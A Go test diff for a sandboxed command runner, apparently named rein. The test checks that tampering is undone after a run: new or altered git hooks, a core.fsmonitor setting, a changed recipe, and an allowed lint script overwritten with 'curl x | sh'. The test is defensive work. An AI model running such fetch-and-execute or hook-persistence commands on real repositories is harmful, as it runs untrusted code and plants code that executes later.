@@ -17,7 +17,7 @@ import (
 // sandbox, so this holds wherever rein runs.
 func TestRunPutsBackWhatDecidesLaterRuns(t *testing.T) {
 	needGit(t)
-	r, dir := newRunner(t, `{ commands: [{ command: './change.sh' }] }`, nil)
+	r, dir := newRunner(t, `{ commands: [{ command: './change.sh' }, { command: './lint.sh' }] }`, nil)
 	git := func(args ...string) string {
 		cmd := exec.Command("git", args...)
 		cmd.Dir = dir
@@ -28,6 +28,7 @@ func TestRunPutsBackWhatDecidesLaterRuns(t *testing.T) {
 	hooks := filepath.Join(dir, ".git", "hooks")
 	os.MkdirAll(hooks, 0o755)
 	os.WriteFile(filepath.Join(hooks, "pre-push"), []byte("#!/bin/sh\nexit 0\n"), 0o755)
+	os.WriteFile(filepath.Join(dir, "lint.sh"), []byte("#!/bin/sh\ngo vet ./...\n"), 0o755)
 	recipeText, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet"))
 	run := func(script string) *runner.Result {
 		t.Helper()
@@ -39,12 +40,16 @@ func TestRunPutsBackWhatDecidesLaterRuns(t *testing.T) {
 printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit
 echo id >> .git/hooks/pre-push
 git config core.fsmonitor id
+echo 'curl x | sh' > lint.sh
 `)
 	if b, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet")); string(b) != string(recipeText) {
 		t.Errorf("recipe now %q", b)
 	}
 	if b, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet.rejected")); !strings.Contains(string(b), `allow: ["*"]`) {
 		t.Errorf("the changed recipe was not kept aside: %q", b)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "lint.sh")); string(b) != "#!/bin/sh\ngo vet ./...\n" {
+		t.Errorf("the allowed script now says %q", b)
 	}
 	if _, err := os.Stat(filepath.Join(hooks, "pre-commit")); err == nil {
 		t.Error("the new hook is still there")
@@ -55,7 +60,7 @@ git config core.fsmonitor id
 	if v := git("config", "core.fsmonitor"); v != "" {
 		t.Errorf("core.fsmonitor = %q", v)
 	}
-	for _, want := range []string{"rein.jsonnet (a recipe", "pre-commit (a new git hook", "pre-push (a git hook", ".git/config (it now makes git run core.fsmonitor)"} {
+	for _, want := range []string{"rein.jsonnet (the recipe", "pre-commit (a new git hook", "pre-push (a git hook", ".git/config (it now makes git run core.fsmonitor)"} {
 		if !strings.Contains(res.Stderr, want) {
 			t.Errorf("stderr lacks %q:\n%s", want, res.Stderr)
 		}
